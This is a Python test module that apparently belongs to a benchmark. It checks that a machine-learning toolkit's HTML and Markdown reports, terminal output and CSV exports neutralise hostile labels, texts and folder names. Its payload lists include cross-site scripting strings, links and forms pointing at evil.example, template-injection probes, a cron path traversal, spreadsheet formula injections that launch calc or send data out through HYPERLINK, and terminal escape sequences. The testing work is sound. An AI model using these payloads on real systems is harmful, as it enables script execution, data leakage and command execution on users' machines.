"""T12: labels, texts and names of folders that try to act in a page, a terminal or a spreadsheet stay texts there."""

import csv
import json
import re
from collections.abc import Iterable, Mapping
from html.parser import HTMLParser
from pathlib import Path

from markdown_it import MarkdownIt

from benchmarks.reliability import harness
from benchmarks.reliability.cases import Case, Cases
from benchmarks.reliability.harness import Job, flags, make_empty

# Each holds the mark of its number, by which it is found again.
STRINGS = (
    "<script>alert('MARK')</script>",
    "</script><script>alert('MARK')</script>",
    "</style><script>alert('MARK')</script>",
    "</title></head><body onload=alert('MARK')>",
    "<img src=x onerror=alert('MARK')>",
    "<svg/onload=alert('MARK')>",
    "</svg><a href='javascript:alert(1)'>MARK</a>",
    "\" onmouseover=\"alert('MARK')",
    "' autofocus onfocus='alert(1)' MARK",
    "<iframe src=//evil.example/MARK>",
    "<base href=http://evil.example/MARK/>",
    "<link rel=stylesheet href=http://evil.example/MARK.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/MARK'>",
    "<form action=http://evil.example/MARK><input name=x>",
    "<!-- MARK -->",
    "--> <b>MARK</b> <!--",
    "<![CDATA[MARK]]>",
    "&lt;script&gt;MARK",
    "&#60;script&#62;MARK",
    "{{ 7 * 7 }}{% raw %}MARK",
    "{# hidden #}MARK{{ config }}",
    "[MARK](javascript:alert(1))",
    "![MARK](http://evil.example/x.png)",
    "[MARK]: http://evil.example",
    "http://evil.example/MARK?a=1&b=2",
    "www.evil.example/MARK",
    "<http://evil.example/MARK>",
    "**MARK** _it_ `code` ~~no~~",
    "``` MARK",
    "| MARK | b |",
    "MARK\\|b\\",
    "# MARK",
    "> MARK",
    "- MARK",
    "1. MARK",
    "+ MARK",
    "    MARK indented",
    "MARK ---",
    "$\\frac{MARK}{b}$ $$x$$",
    "<details open ontoggle=alert('MARK')>",
    "../../../etc/cron.d/MARK",
    "=cmd|' /C calc'!MARK",
    "@SUM(1+1)*MARK",
    "-2+3+cmd|' /C calc'!MARK",
    "MARK مرحبا 你好 👩‍👧",
    "javascript:alert('MARK')",
)
# Characters that hide, turn round or break what stands around them.
HIDDEN = (
    "MARK line\nbreak\r\n# heading",
    "MARK nul\x00bell\x07",
    "MARK \u202egnitrevni\u2066",
    "MARK tab\there\u2028there",
    "MARK \x1b[2J\x1b]0;title\x07 escape",
    "MARK \x9b31m eight bits",
)
ALL = STRINGS + HIDDEN
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
MARK = re.compile(r"zq\d\d")
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
ACTIVE = {"script", "iframe", "object", "embed", "link", "base", "form", "input", "audio", "video", "foreignobject"}
FETCHING = {"src", "href", "xlink:href", "srcset", "action", "formaction", "srcdoc", "background", "poster"}
RANK = {"RANK": 0, "WORLD_SIZE": 2, "LOCAL_RANK": 0}  # `compare` then runs its cells in its own process
FOLDERS = (
    "<img src=x onerror=alert('zq00')>",
    "[zq01](javascript:alert(1))",
    '"><script>zq02',
    "zq03\n# heading\n---",
    "{{ 7 * 7 }}zq04`|`",
    "\x1b[2Jzq05\u202e",
)


def run(work: Path) -> list[Case]:
    harness.prepare(work)
    cases, place = Cases("T12", work), work / "T12"
    in_pages(work, place, cases)
    in_folders(work, place, cases)
    in_sheets(work, place, cases)
    return cases


def mark(text: str, number: int) -> str:
    return text.replace("MARK", f"zq{number:02d}")


# What a page makes of a text


class Page(HTMLParser):
    """Where the marks stand in a page of HTML, and everything in it that could act."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.paths: dict[str, set[tuple[str, ...]]] = {}
        self.text, self.acting = "", []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.note(tag, ("a name",))
        if tag in ACTIVE:
            self.acting.append(f"<{tag}>")
        for name, value in attrs:
            self.note(name, ("a name",))
            self.note(value or "", (tag, name))
            fetches = name in FETCHING and not (value or "").startswith(("#", "data:image/", "https://huggingface.co/"))
            if name.startswith("on") or fetches or "javascript:" in (value or ""):
                self.acting.append(f"{name}={value}")
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        self.text += data
        self.note(data, tuple(self.stack))

    def handle_comment(self, data: str) -> None:
        self.note(data, ("a comment",))

    def note(self, text: str, path: tuple[str, ...]) -> None:
        for found in MARK.findall(text):
            self.paths.setdefault(found, set()).add(path)


class Markdown:
    """The same of a page of Markdown, as the Hub reads it."""

    def __init__(self, text: str) -> None:
        reader = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable(["table", "strikethrough"])
        self.paths: dict[str, set[tuple[str, ...]]] = {}
        self.text, self.acting = "", []
        body = re.sub(r"\A---\n.*?\n---\n", "", text, flags=re.DOTALL)
        stack: list[str] = []
        for block in reader.parse(body):
            for token in (block, *(block.children or ())):
                if token.nesting < 0:
                    stack.pop()
                elif token.type != "inline":
                    self.take(token, tuple(stack))
                if token.nesting > 0:
                    stack.append(token.tag)

    def take(self, token, stack: tuple[str, ...]) -> None:
        """Note a token, and what it does."""
        self.text += token.content
        path = (*stack, "text" if token.type == "text_special" else token.type)
        for found in MARK.findall(token.content):
            self.paths.setdefault(found, set()).add(path)
        for name, value in token.attrs.items():
            for found in MARK.findall(str(value)):
                self.paths.setdefault(found, set()).add((token.tag, name))
            if name in FETCHING and ("evil.example" in str(value) or "javascript:" in str(value)):
                self.acting.append(f"{name}={value}")
        if token.type in ("html_inline", "html_block"):
            self.acting += Page(token.content).acting


def read_page(path: Path) -> Page | Markdown:
    content = path.read_text(encoding="utf-8")
    return Page(content) if path.suffix == ".html" else Markdown(content)


# Labels and texts


def in_pages(work: Path, place: Path, cases: Cases) -> None:
    """Every string as a label and in a text, on every page; marks stand where those of harmless words do."""
    pages = ("report", "evaluation", "ledger", "card", "export")
    wanted = [*map(repr, ALL), *(f"{page}: nothing acts" for page in pages), "every command ends well"]
    wanted += [f"the terminal: {name}" for name in COMMANDS]
    if all(map(cases.has, wanted)):
        return
    make_empty(place)
    # Blanks before a label are told in a note, of a harmless one too.
    words = [f"{re.match(' *', text)[0]}zq{number:02d} word" for number, text in enumerate(ALL)]
    harmless, _ = write_pages(work, place / "harmless", words)
    hostile, jobs = write_pages(work, place / "hostile", [mark(text, number) for number, text in enumerate(ALL)])
    usual = {name: set().union(*page.paths.values()) for name, page in harmless.items()}

    def keep(case: str, good: bool, outcome: str) -> None:
        if not cases.has(case):
            cases.add(case, good, outcome)

    for number, text in enumerate(ALL):
        keep(repr(text), *judge(mark(text, number), f"zq{number:02d}", hostile, usual))
    for kind in pages:
        found = {name: page.acting for name, page in hostile.items() if name.startswith(kind)}
        acting = [one for ones in found.values() for one in ones]
        keep(f"{kind}: nothing acts", bool(found) and not acting, f"{len(found)} pages; {acting or 'nothing'}")
    failed = [f"{name}: {job.verdict}" for name, job in jobs.items() if job.code != 0]
    keep("every command ends well", not failed, "; ".join(failed) or f"{len(jobs)} commands")
    for name, job in jobs.items():
        found = sorted({f"{ord(letter):#x}" for letter in CONTROL.findall(job.text.replace("\r", ""))})
        keep(f"the terminal: {name}", not found, f"control characters: {', '.join(found) or 'none'}")


def judge(text: str, own: str, pages: Mapping[str, Page | Markdown], usual: Mapping[str, set]) -> tuple[bool, str]:
    """Whether a string is a text, and nothing else, on every page on which it stands."""
    faults, shown = [], []
    for name, page in pages.items():
        if own not in page.paths:
            continue
        shown.append(name)
        faults += [f"{name}: in {'/'.join(path)}" for path in page.paths[own] - usual[name]]
        plain = not CONTROL.search(text) and "\n" not in text
        # In Markdown, blanks at the beginning are no part of a text.
        if plain and isinstance(page, Page) and text.strip() not in page.text:
            faults.append(f"{name}: not shown as it is")
    return bool(shown) and not faults, "; ".join(faults) or f"a text on {len(shown)} pages: {', '.join(shown)}"


def write_pages(work: Path, place: Path, strings: list[str]) -> tuple[dict[str, Page | Markdown], dict[str, Job]]:
    """Every page and every line of a terminal that show labels and texts."""
    rows = [{"text": f"{string} anna saw rain {number}", "label": string} for number in range(8) for string in strings]
    place.mkdir(parents=True)
    data = place / "rows"
    data.mkdir()
    for split, begin, end in (("train", 0, 4), ("validation", 4, 6), ("test", 6, 8)):
        part = rows[begin * len(strings) : end * len(strings)]
        (data / f"{split}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in part))
    out, compared, judged = place / "out", place / "compared", place / "out/judged"
    recipe, *given = flags("reviews", work, "--dataset", str(data), "--num_train_epochs", "1")
    commands = {
        "train": [recipe, *given, "--output_dir", str(out)],
        "evaluate": ["hfkit", "evaluate", str(out), "--dataset", str(data), "--output_dir", str(judged)],
        "compare": ["hfkit", "compare", "--recipe", recipe, *given, *COMPARED, "--compare_dir", str(compared)],
        "doctor": ["hfkit", "doctor", "--task", "text-classification", "--dataset", str(data)],
        "predict": ["hfkit", "predict", str(out), str(data / "test.jsonl"), "-o", str(place / "answers.csv")],
        "export": ["hfkit", "export", str(out), "--output_dir", str(place / "onnx")],
        "demo": ["hfkit", "demo", str(out), "--check"],
    }
    jobs = {}
    for name, argv in commands.items():
        jobs[name] = harness.run(argv, place / f"{name}.txt", env=RANK if name == "compare" else {})
    listed = {
        "report.html": out / "report.html",
        "report.md": out / "report.md",
        "card": out / "README.md",
        "evaluation.html": judged / "report.html",
        "evaluation.md": judged / "report.md",
        "export.md": place / "onnx/README.md",
        **{f"ledger {path.name}": path for path in sorted(compared.glob("*.html")) + sorted(compared.glob("*.md"))},
    }
    return {name: read_page(path) for name, path in listed.items() if path.is_file()}, jobs


COMMANDS = ("train", "evaluate", "compare", "doctor", "predict", "export", "demo")
COMPARED = ["--strategies", "full", "--seeds", "0"]


# Names of folders


def in_folders(work: Path, place: Path, cases: Cases) -> None:
    """Odd names of the folders of a dataset and of a run, in report and card."""
    usual: dict[str, set] = {}
    for name in ("zq99 word", *FOLDERS):
        if cases.has(case := f"the name of a folder: {name!r}"):
            continue
        if name in FOLDERS and not usual:
            usual = read_usual(work, place)
        if name in FOLDERS:
            job, pages = train_in(work, place, name)
            own = MARK.search(name)[0]
            faults = [
                f"{page}: in {'/'.join(path)}"
                for page, read in pages.items()
                for path in read.paths.get(own, set()) - usual[page]
            ]
            faults += [one for read in pages.values() for one in read.acting]
            faults += [f"control character {ord(found):#x} printed" for found in CONTROL.findall(job.text)]
            cases.add(case, job.code == 0 and bool(pages) and not faults, f"{job.verdict}; {faults or 'a text'}")


def read_usual(work: Path, place: Path) -> dict[str, set]:
    _, pages = train_in(work, place, "zq99 word")
    return {name: set().union(*page.paths.values()) for name, page in pages.items()}


def train_in(work: Path, place: Path, name: str) -> tuple[Job, dict[str, Page | Markdown]]:
    """A run whose dataset and output lie in folders of that name."""
    make_empty(place)
    data, out = place / "data" / name, place / "out" / name
    data.mkdir(parents=True)
    rows = [{"text": f"anna saw rain {number}", "label": ("good", "bad")[number % 2]} for number in range(40)]
    (data / "train.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    more = ["--dataset", str(data), "--output_dir", str(out), "--num_train_epochs", "1"]
    job = harness.run(flags("reviews", work, *more), place / "out.txt")
    listed = (out / name for name in ("report.html", "report.md", "README.md"))
    return job, {path.name: read_page(path) for path in listed if path.is_file()}


# Spreadsheets


CELLS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    '=HYPERLINK("http://evil.example/"&A1)',
    "=cmd|' /C calc'!A0",
    '","=1+1',
    '"\n=1+1',
    ";=1+1",
)


def in_sheets(work: Path, place: Path, cases: Cases) -> None:
    """No cell of a CSV begins like a formula, be it a text, another column, its name or a prediction."""
    wanted = [f"a cell: {cell!r}" for cell in CELLS] + ["names of columns", "a label as a prediction", "other files"]
    if all(map(cases.has, wanted)):
        return
    make_empty(place)
    rows = [{"text": f"{cell} anna", "note": cell, "=1+1": "a", "@x": "b"} for cell in CELLS]
    file = place / "rows.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    argv = ["hfkit", "predict", str(work / "warm/reviews"), str(file), "-o", str(place / "answers.csv")]
    job = harness.run(argv, place / "out.txt")
    head, *written = read_cells(place / "answers.csv")
    for cell, row in zip(CELLS, written, strict=False):
        bad = [one for one in row if is_formula(one)]
        cases.add(f"a cell: {cell!r}", job.code == 0 and len(row) == len(head) and not bad, f"{job.verdict}; {bad}")
    bad = [one for one in head if is_formula(one)]
    cases.add("names of columns", bool(head) and not bad, f"{head}")
    labelled = [{"text": f"anna saw rain {number}", "label": ("=1+1", "@x")[number % 2]} for number in range(40)]
    file.write_text("".join(json.dumps(row) + "\n" for row in labelled))
    more = ["--dataset", str(file), "--output_dir", str(place / "run"), "--num_train_epochs", "1"]
    harness.run(flags("reviews", work, *more), place / "out.txt")
    argv = ["hfkit", "predict", str(place / "run"), str(file), "-o", str(place / "labels.csv")]
    job = harness.run([*argv, "--probabilities"], place / "out.txt")
    bad = [one for row in read_cells(place / "labels.csv") for one in row if is_formula(one)]
    cases.add("a label as a prediction", job.code == 0 and not bad, f"{job.verdict}; {bad[:3]}")
    sheets = [path for path in (place / "run").rglob("*") if path.suffix in (".csv", ".tsv")]
    bad = [one for path in sheets for row in read_cells(path) for one in row if is_formula(one)]
    cases.add("other files", not bad, f"{len(sheets)} tables in the folder of the run; {bad[:3]}")


def read_cells(path: Path) -> Iterable[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.reader(file))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would run a cell; numbers are none."""
    return re.match(
        r"[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]", cell
    ) is not None and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
